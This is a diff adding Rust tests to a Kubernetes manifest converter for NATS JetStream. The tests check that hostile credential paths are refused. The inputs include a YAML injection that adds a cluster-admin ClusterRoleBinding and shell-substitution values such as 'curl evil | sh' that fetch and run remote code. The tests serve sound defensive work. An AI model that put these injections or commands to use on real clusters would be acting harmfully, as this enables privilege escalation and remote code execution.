@@ -479,3 +479,120 @@ fn the_yaml_carries_adopt_and_every_finding_and_holds_back_changes() {
     );
     assert!(!m.clean(false) && m.clean(true));
 }
+
+/// Every document the manifests hold (with --allow-changes), as its kind and name.
+fn documents(m: &Migration) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    for text in render::manifests(m, true).values() {
+        for doc in serde_yaml::Deserializer::from_str(text) {
+            let v = <serde_json::Value as serde::Deserialize>::deserialize(doc).expect("yaml");
+            if v.is_null() {
+                continue;
+            }
+            out.push((
+                v["kind"].as_str().unwrap_or_default().to_string(),
+                v["metadata"]["name"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .to_string(),
+            ));
+        }
+    }
+    out
+}
+
+/// A second YAML document (a ClusterRoleBinding to cluster-admin) hidden in a tenant's string.
+const INJECTED: &str = "/etc/nats/user.creds\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: pwned}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: default, namespace: shop}]\n---\n";
+
+#[test]
+fn credential_paths_that_are_not_plain_are_refused_and_inject_nothing() {
+    let quoted = serde_json::to_string(INJECTED).expect("a JSON string is a YAML string");
+    let cases = [
+        (format!("creds: {quoted}"), "spec.creds"),
+        (format!("nkey: {quoted}"), "spec.nkey"),
+        (
+            "tls: {rootCas: [/etc/nats/ca.pem, \"/etc/$(curl evil|sh)/ca.pem\"]}".to_string(),
+            "spec.tls.rootCas[1]",
+        ),
+        (
+            "creds: \"/etc/nats/my user.creds\"".to_string(),
+            "spec.creds",
+        ),
+        ("creds: --from-literal=x".to_string(), "spec.creds"),
+    ];
+    for (line, field) in cases {
+        let m = convert_yaml(&consumer(&format!(
+            "ackPolicy: explicit\nackWait: 30s\n{line}"
+        )));
+        let p = &m.subscriptions[0];
+        let (severity, message) = finding(p, field);
+        assert_eq!(severity, Severity::Refused, "{line}");
+        assert!(
+            message.contains("not a plain file path") && message.contains("by hand"),
+            "{message}"
+        );
+        assert!(m.backends.is_empty(), "no Backend, so no command: {line}");
+        assert_eq!(documents(&m), Vec::<(String, String)>::new(), "{line}");
+        let report = render::report(&m, true);
+        assert!(
+            report.lines().all(|l| !l.starts_with("kind:")),
+            "the report is one line a finding: {report}"
+        );
+    }
+}
+
+#[test]
+fn account_secret_keys_that_are_not_keys_are_refused() {
+    let account = |file: &str| {
+        format!(
+            "apiVersion: jetstream.nats.io/v1beta2\nkind: Account\nmetadata: {{name: orders-account, namespace: shop}}\nspec:\n  servers: [\"nats://a:4222\"]\n  creds: {{secret: {{name: nats-user}}, file: {file}}}\n---\n"
+        ) + &consumer("ackPolicy: explicit\nackWait: 30s\naccount: orders-account")
+    };
+    let m = convert_yaml(&account(
+        "\"user.creds}' > /dev/null; curl evil | sh; echo '\"",
+    ));
+    let (severity, message) = finding(&m.subscriptions[0], "Account spec.creds.file");
+    assert_eq!(severity, Severity::Refused);
+    assert!(message.contains("[-._a-zA-Z0-9]+"), "{message}");
+    assert!(m.backends.is_empty());
+    // A plain key is carried, its jsonpath quoted as one word.
+    let m = convert_yaml(&account("user.creds"));
+    assert!(
+        m.backends[0].steps[0].contains("-o jsonpath='{.data.user\\.creds}' | base64 -d > creds"),
+        "{:?}",
+        m.backends[0].steps
+    );
+}
+
+#[test]
+fn shell_words_are_quoted_only_when_they_must_be() {
+    assert_eq!(connection::sh("/etc/nats/ca.pem"), "/etc/nats/ca.pem");
+    assert_eq!(
+        connection::sh("--from-file=ca.crt=/etc/ca.pem"),
+        "--from-file=ca.crt=/etc/ca.pem"
+    );
+    assert_eq!(connection::sh("a b"), "'a b'");
+    assert_eq!(connection::sh("it's"), "'it'\\''s'");
+    assert_eq!(connection::sh("$(x)"), "'$(x)'");
+    assert_eq!(connection::sh(""), "''");
+}
+
+/// Whatever a step or finding holds, a comment line stays one comment: a line break in it (a
+/// plan made elsewhere, or a check missed) is escaped, never a new document.
+#[test]
+fn a_line_break_in_a_step_stays_inside_its_comment() {
+    let mut m = convert_yaml(&consumer(
+        "ackPolicy: explicit\nackWait: 30s\ncreds: /etc/nats/user.creds",
+    ));
+    for brk in ["\n", "\r", "\u{85}", "\u{2028}", "\u{2029}"] {
+        m.backends[0].steps = vec![INJECTED.replace('\n', brk)];
+        let docs = documents(&m);
+        assert!(
+            docs.iter().all(|(kind, _)| kind != "ClusterRoleBinding"),
+            "{brk:?}: {docs:?}"
+        );
+        assert_eq!(docs.len(), 2, "the Backend and the Subscription: {docs:?}");
+        let report = render::report(&m, true);
+        assert!(report.lines().all(|l| !l.starts_with("kind:")), "{report}");
+    }
+}
